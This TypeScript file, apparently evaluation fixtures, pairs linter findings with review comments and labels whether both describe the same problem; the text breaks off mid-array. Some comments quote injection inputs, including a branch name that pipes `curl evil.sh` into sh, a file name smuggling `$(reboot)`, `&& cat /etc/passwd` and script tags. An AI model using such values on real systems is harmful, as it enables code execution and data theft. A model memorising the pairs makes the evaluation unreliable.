import { type LinterPair, pairs } from './linter-pairs.ts';

/**
 * More pairs of a linter's and a model's finding on one line, for rules that `linter-pairs.ts` does not have. Written
 * before the table of problem kinds, which was then corrected where it failed on them.
 */
const same: readonly LinterPair[] = [
  ...pairs('typescript', true, [
    [
      ['eslint', 'no-implied-eval', 'Implied eval. Consider passing a function instead of a string.'],
      [
        'String passed to setTimeout is executed',
        'The callback is built as text, so whatever ends up in it runs as code. Pass a closure.',
      ],
    ],
    [
      [
        'eslint',
        'no-prototype-builtins',
        "Do not access Object.prototype method 'hasOwnProperty' from target object.",
      ],
      [
        'hasOwnProperty called on untrusted object',
        'If the payload defines its own hasOwnProperty key this throws or lies; use Object.hasOwn.',
      ],
    ],
    [
      [
        'typescript-eslint',
        '@typescript-eslint/no-misused-promises',
        'Promise returned in function argument where a void return was expected.',
      ],
      [
        'async callback passed to forEach',
        'forEach does not wait for the returned promises, so errors become unhandled rejections.',
      ],
    ],
    [
      [
        'typescript-eslint',
        '@typescript-eslint/no-unsafe-assignment',
        'Unsafe assignment of an `any` value.',
      ],
      [
        'Untyped JSON flows into config',
        'JSON.parse gives any, so nothing checks that config has the expected shape.',
      ],
    ],
    [
      ['eslint', 'no-unreachable', 'Unreachable code.'],
      ['Dead code after return', 'The cleanup below the return statement never runs.'],
    ],
    [
      [
        'eslint',
        'react-hooks/exhaustive-deps',
        "React Hook useEffect has a missing dependency: 'userId'. Either include it or remove the dependency array.",
      ],
      [
        'Stale userId in effect',
        'userId is not listed in the dependency array, so the effect keeps the first user after navigation.',
      ],
    ],
    [
      [
        'codeql',
        'js/prototype-pollution-utility',
        'The property chain here is recursively assigned to target without guarding against prototype pollution.',
      ],
      [
        'merge() allows __proto__ to be overwritten',
        'A key such as __proto__ in the request body changes Object.prototype for the whole process.',
      ],
    ],
    [
      ['codeql', 'js/request-forgery', 'The URL of this request depends on a user-provided value.'],
      [
        'SSRF in webhook test',
        'The server fetches whatever address the caller sends, including internal hosts such as the metadata service.',
      ],
    ],
    [
      [
        'codeql',
        'js/clear-text-logging',
        'This logs sensitive data returned by an access to password as clear text.',
      ],
      ['Credentials end up in the logs', 'The whole login body is printed, with the password in it.'],
    ],
    [
      [
        'codeql',
        'js/insecure-randomness',
        'This uses a cryptographically insecure random number generated at Math.random() in a security context.',
      ],
      ['Session id can be guessed', 'Math.random is not suitable for tokens; use crypto.randomUUID.'],
    ],
    [
      ['eslint', 'no-async-promise-executor', 'Promise executor functions should not be async.'],
      [
        'async executor swallows rejections',
        'An exception inside new Promise(async ...) never rejects the promise, so the caller hangs.',
      ],
    ],
    [
      ['eslint', 'no-self-compare', 'Comparing to itself is potentially pointless.'],
      [
        'Condition is always true',
        'The width is compared with itself; the second operand should be the height.',
      ],
    ],
  ]),
  ...pairs('python', true, [
    [
      [
        'ruff',
        'S506',
        'Probable use of unsafe loader `FullLoader` with `yaml.load`. Allows instantiation of arbitrary objects. Consider `yaml.safe_load`.',
      ],
      [
        'YAML from users can create any object',
        'yaml.load without SafeLoader lets a tagged document run constructors.',
      ],
    ],
    [
      ['ruff', 'B023', 'Function definition does not bind loop variable `handler`'],
      [
        'All callbacks call the last handler',
        'The lambda closes over handler, which has its final value once they run. Bind it as a default argument.',
      ],
    ],
    [
      ['ruff', 'B008', 'Do not perform function call `datetime.now` in argument defaults'],
      [
        'Default timestamp is frozen at import',
        'datetime.now() is evaluated once when the module loads, so every record gets the same time.',
      ],
    ],
    [
      ['ruff', 'F821', 'Undefined name `user_id`'],
      ['NameError at run time', 'user_id does not exist in this scope; the parameter is called uid.'],
    ],
    [
      ['ruff', 'S110', '`try`-`except`-`pass` detected, consider logging the error'],
      ['Exceptions vanish silently', 'A failed refund is caught and dropped without a log line.'],
    ],
    [
      ['ruff', 'DTZ005', '`datetime.datetime.now()` called without a `tz` argument'],
      [
        'Naive datetime is compared with aware one',
        'now() has no time zone here, so the comparison raises or is off by the local offset.',
      ],
    ],
    [
      ['ruff', 'S311', 'Standard pseudo-random generators are not suitable for cryptographic purposes'],
      ['Invite codes are predictable', 'random.choice is seeded from the clock; use secrets.'],
    ],
    [
      ['ruff', 'E711', 'Comparison to `None` should be `cond is None`'],
      ['== None instead of is None', 'With the ORM column the operator is overloaded, so use identity.'],
    ],
    [
      ['ruff', 'S104', 'Possible binding to all interfaces'],
      ['Debug server listens on 0.0.0.0', 'Anyone on the network can reach it; bind to 127.0.0.1.'],
    ],
    [
      [
        'semgrep',
        'python.flask.security.audit.debug-enabled.debug-enabled',
        'Detected Flask app with debug=True. Do not deploy to production with this flag enabled as it will leak sensitive information.',
      ],
      [
        'Debug mode is on in production',
        'The interactive debugger lets visitors run Python and see the stack.',
      ],
    ],
    [
      [
        'semgrep',
        'python.django.security.injection.ssrf.ssrf-requests',
        'Data from request object is passed to a new server-side request. This could lead to a server-side request forgery (SSRF).',
      ],
      [
        'The preview fetches internal addresses',
        'url comes from the form and is handed to requests.get, so cloud metadata can be read.',
      ],
    ],
    [
      ['codeql', 'py/template-injection', 'This template construction depends on a user-provided value.'],
      [
        'Jinja template built from form text',
        'render_template_string on user text executes expressions on the server (SSTI).',
      ],
    ],
  ]),
  ...pairs('go', true, [
    [
      ['golangci-lint', 'G115', 'integer overflow conversion int -> int32'],
      ['Length may wrap around', 'len(items) is cast to int32 and becomes negative above 2^31.'],
    ],
    [
      ['golangci-lint', 'G301', 'Expect directory permissions to be 0750 or less'],
      ['Cache folder is world-readable', 'MkdirAll with 0777 lets every local user read and write it.'],
    ],
    [
      ['golangci-lint', 'contextcheck', 'Function `fetchUser` should pass the context parameter'],
      [
        'Request cancellation is lost',
        'fetchUser runs with context.Background() instead of ctx of the request.',
      ],
    ],
    [
      ['golangci-lint', 'rowserrcheck', 'rows.Err must be checked'],
      [
        'Iteration errors are missed',
        'After the loop rows.Err() is never looked at, so a broken connection looks like the end of the data.',
      ],
    ],
    [
      ['golangci-lint', 'SA5011', 'possible nil pointer dereference'],
      ['Panic when cfg is nil', 'cfg is used before the nil check below it.'],
    ],
    [
      [
        'golangci-lint',
        'errorlint',
        'comparing with == will fail on wrapped errors. Use errors.Is to check for a specific error',
      ],
      [
        'sql.ErrNoRows is not recognised once it is wrapped',
        'The repository wraps errors with %w, so the equality never holds; use errors.Is.',
      ],
    ],
    [
      ['golangci-lint', 'lostcancel', 'the cancel function is not used on all paths (possible context leak)'],
      [
        'Timer leaks because cancel is never called',
        'WithTimeout returns a cancel function that must be deferred.',
      ],
    ],
    [
      ['golangci-lint', 'G107', 'Potential HTTP request made with variable url'],
      [
        'Server-side request forgery through callback URL',
        'The callback address comes from the client and may point to 169.254.169.254.',
      ],
    ],
  ]),
  ...pairs('java', true, [
    [
      ['codeql', 'java/log-injection', 'This log entry depends on a user-provided value.'],
      ['Log lines can be forged', 'The user name may contain a newline, so fake entries appear in the log.'],
    ],
    [
      ['codeql', 'java/ldap-injection', 'This LDAP query depends on a user-provided value.'],
      [
        'LDAP filter is built from the login name',
        'A star or parenthesis in the name changes the filter and matches other accounts.',
      ],
    ],
    [
      [
        'codeql',
        'java/zipslip',
        'Unsanitized archive entry, which may contain .., is used in a file system operation.',
      ],
      [
        'Archive entries can leave the target folder',
        'entry.getName() may hold ../ and overwrite files elsewhere while unzipping.',
      ],
    ],
    [
      [
        'codeql',
        'java/spring-disabled-csrf-protection',
        'CSRF vulnerability due to protection being disabled.',
      ],
      [
        'Cross-site request forgery is possible',
        'csrf().disable() on a session-based site lets other pages post forms for the user.',
      ],
    ],
    [
      ['codeql', 'java/insecure-cookie', "Cookie is added without the 'secure' flag being set."],
      ['Session cookie is sent over plain HTTP', 'setSecure(true) is missing on it.'],
    ],
    [
      [
        'codeql',
        'java/dereferenced-value-may-be-null',
        'Variable order may be null at this access because of this null guard.',
      ],
      [
        'NullPointerException for missing order',
        'order is checked for null above, and used here without a check.',
      ],
    ],
    [
      [
        'semgrep',
        'java.lang.security.audit.crypto.des-is-deprecated.des-is-deprecated',
        'DES is considered deprecated. AES is the recommended cipher.',
      ],
      ['Outdated cipher for stored tokens', 'A 56-bit DES key is searched within hours.'],
    ],
    [
      [
        'semgrep',
        'java.lang.security.audit.unsafe-reflection.unsafe-reflection',
        'If an attacker can supply values that the application then uses to determine which class to instantiate, arbitrary code may run.',
      ],
      ['Class name comes from the request', 'Class.forName on a parameter lets callers load any class.'],
    ],
  ]),
];

const different: readonly LinterPair[] = [
  ...pairs('typescript', false, [
    [
      ['eslint', 'no-unused-vars', "'total' is assigned a value but never used."],
      ['count is never used', 'The counter is computed and then ignored.'],
    ],
    [
      ['eslint', 'no-magic-numbers', 'No magic number: 30.'],
      ['Timeout of 60 is hard to understand', 'Name the magic number 60 or read it from configuration.'],
    ],
    [
      [
        'typescript-eslint',
        '@typescript-eslint/no-floating-promises',
        'Promises must be awaited, end with a call to .catch, or end with a call to .then with a rejection handler.',
      ],
      [
        'notify() is called before save()',
        'The mail is sent although the promise of save may still reject afterwards; swap the two calls.',
      ],
    ],
    [
      [
        'typescript-eslint',
        '@typescript-eslint/no-misused-promises',
        'Promise returned in function argument where a void return was expected.',
      ],
      ['Listener is added on every render', 'The handler is never removed, so clicks fire many times.'],
    ],
    [
      [
        'typescript-eslint',
        '@typescript-eslint/no-unsafe-assignment',
        'Unsafe assignment of an `any` value.',
      ],
      ['Config is parsed on each request', 'Reading and parsing the JSON again and again is slow; cache it.'],
    ],
    [
      ['codeql', 'js/request-forgery', 'The URL of this request depends on a user-provided value.'],
      ['The request has no timeout', 'A slow host keeps the handler busy for minutes.'],
    ],
    [
      [
        'codeql',
        'js/clear-text-logging',
        'This logs sensitive data returned by an access to password as clear text.',
      ],
      ['Log level is wrong', 'A failed login is logged as debug, so nobody sees it in production.'],
    ],
    [
      [
        'codeql',
        'js/insecure-randomness',
        'This uses a cryptographically insecure random number generated at Math.random() in a security context.',
      ],
      ['Session id is logged', 'The id is printed to the console, where support staff can read it.'],
    ],
    [
      ['eslint', 'react-hooks/exhaustive-deps', "React Hook useEffect has a missing dependency: 'userId'."],
      [
        'The subscription is not cleaned up',
        'useEffect returns no cleanup function, so the socket stays open after unmount.',
      ],
    ],
    [
      ['eslint', 'no-await-in-loop', 'Unexpected `await` inside a loop.'],
      ['The page counter starts at 1', 'The API counts pages from 0, so the first page is skipped.'],
    ],
    [
      ['eslint', 'no-empty-function', "Unexpected empty arrow function 'onError'."],
      ['onError is registered twice', 'The same handler is attached here and in the constructor.'],
    ],
    [
      ['eslint', 'no-undef', "'config' is not defined."],
      ["'logger' is not defined", 'logger is used here and never imported.'],
    ],
  ]),
  ...pairs('python', false, [
    [
      ['ruff', 'F401', '`os` imported but unused'],
      ['Unused import sys', 'sys is not referenced in the module any more.'],
    ],
    [
      ['ruff', 'F841', 'Local variable `total` is assigned to but never used'],
      ['subtotal is never read', 'The variable is assigned and thrown away.'],
    ],
    [
      ['ruff', 'S506', 'Probable use of unsafe loader `FullLoader` with `yaml.load`.'],
      [
        'Missing file is not handled',
        'open() raises when there is no settings.yaml and the service does not start.',
      ],
    ],
    [
      ['ruff', 'S608', 'Possible SQL injection vector through string-based query construction'],
      ['One query per row', 'The SELECT runs inside the loop; fetch all orders with one statement.'],
    ],
    [
      ['ruff', 'S602', '`subprocess` call with `shell=True` identified, security issue'],
      ['Subprocess output is decoded as ASCII', 'File names with umlauts raise UnicodeDecodeError.'],
    ],
    [
      ['ruff', 'S110', '`try`-`except`-`pass` detected, consider logging the error'],
      ['The wrong exception type is caught', 'json raises JSONDecodeError, and KeyError is caught here.'],
    ],
    [
      ['ruff', 'S311', 'Standard pseudo-random generators are not suitable for cryptographic purposes'],
      ['Two draws can give the same winner', 'random.choice may pick one person twice; use sample.'],
    ],
    [
      ['ruff', 'B008', 'Do not perform function call `Depends` in argument defaults'],
      [
        'The dependency skips the permission check',
        'get_user does not verify that the user belongs to the tenant.',
      ],
    ],
    [
      ['ruff', 'PLR2004', 'Magic value used in comparison, consider replacing `30` with a constant variable'],
      ['Magic value 90 in comparison', 'Replace 90 with a named constant.'],
    ],
    [
      ['ruff', 'C901', '`process` is too complex (14 > 10)'],
      ['process() mutates its argument', 'The list that callers pass in is sorted in place.'],
    ],
    [
      [
        'semgrep',
        'python.flask.security.audit.debug-enabled.debug-enabled',
        'Detected Flask app with debug=True.',
      ],
      ['The port is hard-coded', 'Port 5000 collides with AirPlay on macOS; read it from the environment.'],
    ],
    [
      ['codeql', 'py/path-injection', 'This path depends on a user-provided value.'],
      ['Temporary file is never deleted', 'Each upload leaves a file behind until the disk is full.'],
    ],
  ]),
  ...pairs('go', false, [
    [
      ['golangci-lint', 'errcheck', 'Error return value of `f.Close` is not checked'],
      ['Error of os.Remove is ignored', 'If Remove fails the lock file stays; check its error.'],
    ],
    [
      ['golangci-lint', 'G115', 'integer overflow conversion int -> int32'],
      ['Division by zero', 'len(items) is 0 for an empty order and the average panics.'],
    ],
    [
      ['golangci-lint', 'G301', 'Expect directory permissions to be 0750 or less'],
      [
        'MkdirAll error is ignored',
        'If the folder cannot be created the write below fails with a confusing message.',
      ],
    ],
    [
      ['golangci-lint', 'G107', 'Potential HTTP request made with variable url'],
      ['Response body is not closed', 'Every call leaks a connection; defer resp.Body.Close().'],
    ],
    [
      ['golangci-lint', 'SA5011', 'possible nil pointer dereference'],
      ['cfg is shared between goroutines', 'Two workers write to the struct without a lock.'],
    ],
    [
      ['golangci-lint', 'lostcancel', 'the cancel function is not used on all paths (possible context leak)'],
      ['Timeout is far too short', 'Five milliseconds are not enough for a call to another region.'],
    ],
    [
      ['golangci-lint', 'unparam', '`load` - `limit` always receives `100`'],
      ['limit of 50 is exceeded', 'The API allows 50 items a page and answers 400 above that.'],
    ],
    [
      ['golangci-lint', 'G404', 'Use of weak random number generator (math/rand instead of crypto/rand)'],
      ['Jitter can be negative', 'rand.Intn(n) - n gives a negative delay and the retry fires at once.'],
    ],
  ]),
  ...pairs('java', false, [
    [
      ['codeql', 'java/log-injection', 'This log entry depends on a user-provided value.'],
      ['Logging inside the loop slows down the import', 'A million rows write a million log lines.'],
    ],
    [
      [
        'codeql',
        'java/zipslip',
        'Unsanitized archive entry, which may contain .., is used in a file system operation.',
      ],
      ['No limit on the unpacked size', 'A zip bomb fills the disk because sizes are not checked.'],
    ],
    [
      ['codeql', 'java/insecure-cookie', "Cookie is added without the 'secure' flag being set."],
      ['The cookie never expires', 'Max age is ten years; use a session cookie.'],
    ],
    [
      ['codeql', 'java/unsafe-deserialization', 'Unsafe deserialization depends on a user-provided value.'],
      ['The stream is never closed', 'ObjectInputStream is opened without try-with-resources.'],
    ],
    [
      ['spotbugs', 'DM_DEFAULT_ENCODING', 'Found reliance on default encoding'],
      ['The whole file is read at once', 'A large export does not fit into memory; stream it.'],
    ],
    [
      ['spotbugs', 'NP_NULL_PARAM_DEREF', 'Null passed for non-null parameter of send(Order)'],
      [
        'send() is called twice',
        'A retry after a timeout creates the order again because there is no idempotency key.',
      ],
    ],
    [
      [
        'codeql',
        'java/weak-cryptographic-algorithm',
        'Cryptographic algorithm MD5 is weak and should not be used.',
      ],
      ['SHA-1 protects the signature', 'SHA-1 is weak against collisions; use SHA-256.'],
    ],
    [
      ['codeql', 'java/sql-injection', 'This query depends on a user-provided value.'],
      [
        'Deleted rows are returned',
        'The statement does not filter by deleted_at, so removed customers appear.',
      ],
    ],
  ]),
];

export const heldOutPairs: readonly LinterPair[] = [...same, ...different];

/** The same, with explanations as long as AI reviewers write them. */
export const longPairs: readonly LinterPair[] = [
  ...pairs('typescript', true, [
    [
      [
        'semgrep',
        'javascript.express.security.audit.xss.direct-response-write.direct-response-write',
        "Detected directly writing to a Response object from user-defined input. This bypasses any HTML escaping and may expose your application to a Cross-Site-scripting (XSS) vulnerability. Instead, use 'resp.render()' to render safely escaped HTML.",
      ],
      [
        'Reflected input in search page',
        '`req.query.q` is sent back with `res.send()` without any encoding. If an attacker crafts a link that contains `<img onerror=...>`, the browser of whoever opens it will execute it with the session of our site. Encode the value or render it through the template engine.',
      ],
    ],
    [
      ['codeql', 'js/sql-injection', 'This query string depends on a [user-provided value](1).'],
      [
        'User-controlled sort column is interpolated into the ORDER BY',
        'The `sort` query parameter is placed into the template literal unchanged. Since it is not a value it cannot be bound, so it has to be checked against an allow list of columns; otherwise arbitrary SQL can be appended.',
      ],
    ],
    [
      [
        'semgrep',
        'javascript.lang.security.detect-child-process.detect-child-process',
        'Detected calls to child_process from a function argument `branch`. This could lead to a command injection if the input is user controllable. Try to avoid calls to child_process, and if it is needed ensure user input is correctly sanitized or sandboxed.',
      ],
      [
        '`git checkout` is run through a shell',
        'Because `execSync` receives one string, a branch called `x; curl evil.sh | sh` would be executed on the build host. Use `execFileSync("git", ["checkout", branch])`.',
      ],
    ],
    [
      [
        'typescript-eslint',
        '@typescript-eslint/no-floating-promises',
        'Promises must be awaited, end with a call to .catch, end with a call to .then with a rejection handler or be explicitly marked as ignored with the `void` operator.',
      ],
      [
        'audit.record() is fire-and-forget',
        'Nothing waits for `audit.record(event)`. When the database is down the rejection surfaces as an unhandledRejection and takes the process with it, and entries are lost on shutdown.',
      ],
    ],
    [
      [
        'codeql',
        'js/server-side-unvalidated-url-redirection',
        'Untrusted URL redirection depends on a [user-provided value](1).',
      ],
      [
        '`returnTo` is not restricted to our own host',
        'After signing in the user is forwarded to whatever `returnTo` holds. A phishing mail can use our domain in its link and still land people on a look-alike page. Only accept relative paths.',
      ],
    ],
    [
      [
        'typescript-eslint',
        '@typescript-eslint/no-explicit-any',
        'Unexpected any. Specify a different type.',
      ],
      [
        '`payload: any` loses the contract of the event',
        'Declaring the parameter this way means that the compiler accepts any property access on it, so renaming a field will not be noticed here. There is already an `OrderEvent` interface that could be used.',
      ],
    ],
    [
      [
        'codeql',
        'js/polynomial-redos',
        "This regular expression that depends on a user-provided value may run slow on strings starting with '\t' and with many repetitions of '\t'.",
      ],
      [
        'Whitespace trimming pattern is quadratic',
        'With `/\\s+$/` a header of 100,000 tabs followed by a letter keeps one core busy for several seconds, which is enough to take the service down. `trimEnd()` does the same in linear time.',
      ],
    ],
    [
      ['eslint', 'no-empty', 'Empty block statement.'],
      [
        'Failures of the cache write are invisible',
        'The catch clause contains no code and no comment. If Redis rejects the write because it is out of memory we will never find out. At least log it at warn level.',
      ],
    ],
  ]),
  ...pairs('python', true, [
    [
      ['ruff', 'B006', 'Do not use mutable data structures for argument defaults'],
      [
        'Options leak from one report into the next',
        '`def render(rows, options={})` evaluates the dictionary only once, and `options["title"] = ...` below changes it, so the second report starts with the title of the first one. Use None and create the dictionary inside.',
      ],
    ],
    [
      [
        'semgrep',
        'python.lang.security.deserialization.pickle.avoid-pickle',
        'Avoid using `pickle`, which is known to lead to code execution vulnerabilities. When unpickling, the serialized data could be manipulated to run arbitrary code.',
      ],
      [
        'Session data from Redis is loaded with pickle',
        'Anyone who can write to the shared Redis instance can put an object with a `__reduce__` method there and have it executed in the web worker. JSON is sufficient for what is stored.',
      ],
    ],
    [
      ['ruff', 'S324', 'Probable use of insecure hash functions in `hashlib`: `md5`'],
      [
        'Reset tokens are derived with MD5',
        '`hashlib.md5(email + date)` can be computed by anyone who knows the address, and MD5 has been considered broken for years. Use `secrets.token_urlsafe` or at least HMAC-SHA256 with a server key.',
      ],
    ],
    [
      ['ruff', 'S608', 'Possible SQL injection vector through string-based query construction'],
      [
        '`table` ends up in the statement through `.format()`',
        'While values are passed as parameters, the table name is taken from the URL and formatted into the text. `orders; DELETE FROM users` would be accepted by the driver. Look it up in a dictionary of known tables.',
      ],
    ],
    [
      ['codeql', 'py/path-injection', 'This path depends on a [user-provided value](1).'],
      [
        'Attachment name is used as is',
        '`os.path.join(UPLOADS, name)` drops the first part when `name` is absolute, so `/etc/shadow` is returned to the client. Resolve the path and check that it is still below `UPLOADS`.',
      ],
    ],
    [
      ['ruff', 'S602', '`subprocess` call with `shell=True` identified, security issue'],
      [
        'Unquoted file name in the convert call',
        'The upload is passed to ImageMagick via a formatted string, hence a file called `a.png$(reboot)` would be interpreted by sh. Pass a list of arguments instead.',
      ],
    ],
    [
      [
        'codeql',
        'py/stack-trace-exposure',
        '[Stack trace information](1) flows to this location and may be exposed to an external user.',
      ],
      [
        'Internal error details are returned to the caller',
        'The handler answers with `traceback.format_exc()`, which tells attackers about paths, library versions and SQL. Log it and answer with a generic message.',
      ],
    ],
    [
      ['ruff', 'F841', 'Local variable `deadline` is assigned to but never used'],
      [
        'The computed deadline is not applied',
        '`deadline` is calculated from the SLA in the line above, yet the request further down is sent with the default. It looks as if passing it on was forgotten.',
      ],
    ],
  ]),
  ...pairs('go', true, [
    [
      ['golangci-lint', 'G202', 'SQL string concatenation'],
      [
        'Filter value goes straight into the WHERE clause',
        'Concatenating `status` from the request lets a caller close the quote and add a UNION. `db.Query(q, status)` with `$1` avoids it.',
      ],
    ],
    [
      ['golangci-lint', 'errcheck', 'Error return value of `tx.Rollback` is not checked'],
      [
        'tx.Rollback() can fail silently',
        'If the connection was dropped the deferred rollback returns an error that nobody sees, which made the last incident hard to analyse. Log anything other than sql.ErrTxDone.',
      ],
    ],
    [
      ['golangci-lint', 'bodyclose', 'response body must be closed'],
      [
        'HTTP connections are not reused',
        'When the status is not 200 the function returns before `defer resp.Body.Close()` is reached, and the transport has to open a new connection for each failure until file descriptors are exhausted.',
      ],
    ],
    [
      [
        'golangci-lint',
        'G404',
        'Use of weak random number generator (math/rand or math/rand/v2 instead of crypto/rand)',
      ],
      [
        'One-time codes come from math/rand',
        'The generator is not cryptographically secure, and with two codes in hand the sequence can be reconstructed. crypto/rand should be used for anything that authenticates a user.',
      ],
    ],
  ]),
  ...pairs('java', true, [
    [
      [
        'codeql',
        'java/unsafe-deserialization',
        'Unsafe deserialization depends on a [user-provided value](1).',
      ],
      [
        'Cookie is turned back into an object without a filter',
        '`new ObjectInputStream(...)` on the cookie bytes instantiates any class on the class path, and commons-collections is one of them, which is a known way to remote code execution.',
      ],
    ],
    [
      ['codeql', 'java/xss', 'Cross-site scripting vulnerability due to a [user-provided value](1).'],
      [
        'The display name is written into the HTML response',
        'People can choose a name such as `<script>fetch(...)</script>`, which `out.println` then sends to everyone who looks at their profile. Use the encoder from OWASP.',
      ],
    ],
  ]),
  ...pairs('typescript', false, [
    [
      ['codeql', 'js/sql-injection', 'This query string depends on a [user-provided value](1).'],
      [
        'Connection is not released when the query fails',
        '`client.release()` is only called after a successful `client.query(sql)`. Each failing statement leaves one client checked out, and after ten of them the pool is empty and all requests hang. Move the call to a finally block.',
      ],
    ],
    [
      ['codeql', 'js/sql-injection', 'This query string depends on a [user-provided value](1).'],
      [
        'SELECT * returns the password hash',
        'The query loads all columns of the users table and the result is sent to the client as JSON, so hashes and e-mail addresses of other people are disclosed. List the columns that the page needs.',
      ],
    ],
    [
      [
        'semgrep',
        'javascript.lang.security.detect-child-process.detect-child-process',
        'Detected calls to child_process from a function argument `branch`. This could lead to a command injection if the input is user controllable.',
      ],
      [
        'Output of git is limited to 1 MB',
        '`execSync` has a default `maxBuffer`. For large repositories the diff exceeds it and the call throws ENOBUFS, which is reported as "git is not installed".',
      ],
    ],
    [
      [
        'typescript-eslint',
        '@typescript-eslint/no-floating-promises',
        'Promises must be awaited, end with a call to .catch, end with a call to .then with a rejection handler or be explicitly marked as ignored with the `void` operator.',
      ],
      [
        'The same mail is sent twice',
        '`sendMail(order)` is called here and again by the queue consumer, since the event is published as well. Customers get two confirmations.',
      ],
    ],
    [
      [
        'typescript-eslint',
        '@typescript-eslint/no-explicit-any',
        'Unexpected any. Specify a different type.',
      ],
      [
        'Response is cached under the wrong key',
        'The key only has the path, and the response depends on the language of the user as well. The first visitor decides which language everyone sees.',
      ],
    ],
    [
      [
        'codeql',
        'js/server-side-unvalidated-url-redirection',
        'Untrusted URL redirection depends on a [user-provided value](1).',
      ],
      [
        '302 is cached by the CDN',
        "The redirect has no Cache-Control header, hence the edge may serve one user's target to others. Send `no-store` along with it.",
      ],
    ],
    [
      ['codeql', 'js/xss', 'Cross-site scripting vulnerability due to a user-provided value.'],
      [
        'Scroll position is lost on every update',
        'Assigning to `innerHTML` replaces all child nodes, so the list jumps to its beginning whenever a message arrives. Append the new node instead.',
      ],
    ],
    [
      ['eslint', 'no-unused-vars', "'err' is defined but never used."],
      [
        'Wrong status code for missing files',
        'The handler answers 500 when the file does not exist. `err.code === "ENOENT"` should become a 404.',
      ],
    ],
    [
      ['eslint', 'eqeqeq', "Expected '===' and instead saw '=='."],
      [
        'Admin check compares the wrong id',
        'The condition looks at `session.orgId` where it should look at `session.userId`, so every member of organisation 1 is treated as the administrator.',
      ],
    ],
  ]),
  ...pairs('python', false, [
    [
      ['ruff', 'S602', '`subprocess` call with `shell=True` identified, security issue'],
      [
        'The subprocess may never end',
        'ffmpeg waits for input on stdin when the target file exists. Without `-y` and without `timeout=` the worker blocks until it is killed by the supervisor.',
      ],
    ],
    [
      ['ruff', 'S324', 'Probable use of insecure hash functions in `hashlib`: `md5`'],
      [
        'Hash is computed before the file is complete',
        'The stream has not been flushed when the digest is taken, so the value in the manifest does not match the uploaded file.',
      ],
    ],
    [
      [
        'ruff',
        'S301',
        '`pickle` and modules that wrap it can be unsafe when used to deserialize untrusted data, possible security issue',
      ],
      [
        'Cached models break after an upgrade',
        'The pickled class moved to another module in 2.0, so loading entries written by the previous release fails with AttributeError. Add a version to the key.',
      ],
    ],
    [
      ['ruff', 'B006', 'Do not use mutable data structures for argument defaults'],
      [
        '`rows` may be None',
        'Callers in reports.py pass None for an empty result, and `for row in rows` then raises TypeError.',
      ],
    ],
    [
      ['codeql', 'py/path-injection', 'This path depends on a [user-provided value](1).'],
      [
        'Large files are loaded completely',
        '`open(path).read()` holds the entire video in memory for each download. Stream it in chunks.',
      ],
    ],
    [
      [
        'semgrep',
        'python.lang.security.audit.eval-detected.eval-detected',
        'Detected the use of eval(). eval() can be dangerous if used to evaluate dynamic content.',
      ],
      [
        'Rounding differs from the invoice',
        'The price formula yields a float here and Decimal in billing.py, therefore totals differ by a cent in some cases.',
      ],
    ],
    [
      ['ruff', 'F841', 'Local variable `deadline` is assigned to but never used'],
      [
        '`started` is unused',
        'The start time is stored in `started` and nothing reads it. Remove it or log the duration.',
      ],
    ],
    [
      ['ruff', 'S608', 'Possible SQL injection vector through string-based query construction'],
      [
        'Query ignores the tenant',
        'The statement selects invoices by number only. Numbers are unique per tenant, so one customer can see the invoice of another one.',
      ],
    ],
    [
      [
        'codeql',
        'py/clear-text-logging-sensitive-data',
        'This expression logs [sensitive data (password)](1) as clear text.',
      ],
      [
        'Failed logins are not counted',
        'There is a log line for a wrong password and no counter, so an attacker can try as many passwords as they like. Lock the account after ten attempts.',
      ],
    ],
  ]),
  ...pairs('go', false, [
    [
      ['golangci-lint', 'errcheck', 'Error return value of `w.Write` is not checked'],
      [
        'Content-Type is set too late',
        'Headers must be set before the first call of `w.Write`; here the JSON is served as text/plain.',
      ],
    ],
    [
      ['golangci-lint', 'errcheck', 'Error return value of `src.Close` is not checked'],
      [
        'dst.Close() error is dropped',
        'For the file that was written the final flush happens in `dst.Close()`, so a full disk goes unnoticed.',
      ],
    ],
    [
      ['golangci-lint', 'G304', 'Potential file inclusion via variable'],
      [
        'Config is read on every request',
        '`os.ReadFile(path)` runs inside the handler. Load the file at start and keep the parsed value.',
      ],
    ],
    [
      ['golangci-lint', 'bodyclose', 'response body must be closed'],
      [
        'Retries reuse a consumed request body',
        'After the first attempt `req.Body` has been read to its end, so the second attempt sends an empty payload. Create the reader inside the loop.',
      ],
    ],
    [
      ['golangci-lint', 'G204', 'Subprocess launched with a potential tainted input or cmd arguments'],
      [
        'Environment of the server is inherited',
        '`cmd.Env` is not set, so the hook script sees DATABASE_URL and all other secrets of the service.',
      ],
    ],
  ]),
  ...pairs('java', false, [
    [
      ['codeql', 'java/sql-injection', 'This query depends on a [user-provided value](1).'],
      [
        'Search is case-sensitive',
        '`LIKE` on this column distinguishes upper and lower case, so "meier" does not find "Meier". Use ILIKE or a normalised column.',
      ],
    ],
    [
      [
        'codeql',
        'java/weak-cryptographic-algorithm',
        'Cryptographic algorithm [DES](1) is weak and should not be used.',
      ],
      [
        'The initialisation vector is constant',
        'All records are encrypted with sixteen zero bytes as IV, so equal plaintexts give equal ciphertexts. Generate a random IV for each record.',
      ],
    ],
    [
      ['codeql', 'java/path-injection', 'This path depends on a [user-provided value](1).'],
      [
        'File name collisions',
        'Two people who upload `scan.pdf` at the same time write to the same file, and one of them loses the document. Add a UUID to the name.',
      ],
    ],
  ]),
];

/** Written last, after the table had been corrected by all others. */
export const lastPairs: readonly LinterPair[] = [
  ...pairs('python', true, [
    [
      ['ruff', 'S608', 'Possible SQL injection vector through string-based query construction'],
      [
        'Unsafe SQL construction',
        'The email address is inserted into the query text with %; escape hatch for attackers who can alter the condition. Use bound parameters.',
      ],
    ],
    [
      ['codeql', 'py/command-line-injection', 'This command line depends on a user-provided value.'],
      [
        'os.system with unsanitised hostname',
        'The hostname from the form is passed to os.system, so `example.com && cat /etc/passwd` works.',
      ],
    ],
    [
      [
        'ruff',
        'S301',
        '`pickle` and modules that wrap it can be unsafe when used to deserialize untrusted data, possible security issue',
      ],
      [
        'Insecure deserialization of job payload',
        'pickle.loads executes code embedded in the payload, which comes from the queue that tenants can write to.',
      ],
    ],
    [
      ['ruff', 'B006', 'Do not use mutable data structures for argument defaults'],
      [
        'Mutable default argument',
        'The list created in the signature survives between calls and accumulates tags from earlier requests.',
      ],
    ],
    [
      ['codeql', 'py/reflective-xss', 'Cross-site scripting vulnerability due to a user-provided value.'],
      [
        'Search term rendered without escaping',
        'The template marks the term as safe, so HTML in the URL becomes part of the page.',
      ],
    ],
    [
